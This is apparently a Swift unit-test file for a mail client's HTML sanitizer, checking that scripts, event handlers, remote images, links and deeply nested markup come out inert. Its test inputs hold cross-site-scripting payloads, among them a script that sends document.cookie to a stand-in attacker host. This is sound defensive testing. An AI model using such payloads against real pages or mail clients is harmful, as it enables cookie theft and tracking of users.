import Foundation
import SluitsteenXML
import Testing

/// A mail's HTML part made inert (issue 13): nothing in it can run, load or link; its text and plain structure stay.
@Suite("HTML of a mail made inert")
struct HTMLSanitizerTests {
    @Test func scriptsStylesAndHandlersAreGone() {
        let r = HTMLSanitizer.sanitize("""
            <html><head><title>x</title><style>body{background:url(http://evil.example/s.png)}</style>
            <script>alert(1)</script><meta http-equiv="refresh" content="0;url=http://evil.example"></head>
            <body onload="steal()"><p style="background:url(http://evil.example/p.png)" onclick="x()">Beste <b>raad</b>,</p>
            <script>document.location='http://evil.example/?c='+document.cookie</script>
            <iframe src="http://evil.example/f"></iframe><form action="http://evil.example"><input name=a></form>
            <svg onload="alert(2)"><script>alert(3)</script></svg><object data="http://evil.example/o"></object>
            </body></html>
            """)
        #expect(r.html.contains("<p>Beste <b>raad</b>,</p>"))
        for bad in ["script", "style", "onload", "onclick", "iframe", "form", "input", "svg", "object", "evil.example", "meta", "alert"] {
            #expect(!r.html.lowercased().contains(bad), "\(bad) survived: \(r.html)")
        }
        #expect(r.droppedElements >= 5)
    }

    @Test func imagesAndLinksLoadNothingAndLinkNowhere() {
        let r = HTMLSanitizer.sanitize("""
            <p><img src="http://tracker.example/pixel.gif" alt="logo gemeente"><img src=cid:abc>
            <a href="javascript:alert(1)">klik</a> <a href="https://example.org/x?a=1&b=2">site</a></p>
            <table background="http://x.example/t.png"><tr><td colspan="2" style="color:red">A</td><td rowspan=99999>B</td></tr></table>
            """)
        #expect(r.html.contains("[afbeelding: logo gemeente]") && r.html.contains("[afbeelding]"))
        #expect(!r.html.contains("<img") && !r.html.contains("<a") && !r.html.contains("href"))
        #expect(r.html.contains("klik [javascript:alert(1)]"), "the target is shown as text, never as a link")
        #expect(r.html.contains("site [https://example.org/x?a=1&amp;b=2]"))
        #expect(r.html.contains("<td colspan=\"2\">A</td><td>B</td>"))
        #expect(!r.html.contains("background") && !r.html.contains("style"))
        #expect(r.neutralisedReferences >= 5)
    }

    @Test func textIsEscapedAndBrokenHTMLIsRead() {
        let r = HTMLSanitizer.sanitize("<p>1 &lt; 2 &amp; &quot;3&quot;<p>open <b>bold <i>both</p>tail &#x3C;script&#x3E;")
        #expect(r.html.contains("1 &lt; 2 &amp; &quot;3&quot;"))
        #expect(r.html.contains("&lt;script&gt;") && !r.html.contains("<script"))
        #expect(HTMLSanitizer.sanitize("").html.isEmpty)
        // Deep nesting does not exhaust the stack.
        let deep = String(repeating: "<div>", count: 20_000) + "diep" + String(repeating: "</div>", count: 20_000)
        #expect(HTMLSanitizer.sanitize(deep).html.count < 10_000)
    }
}
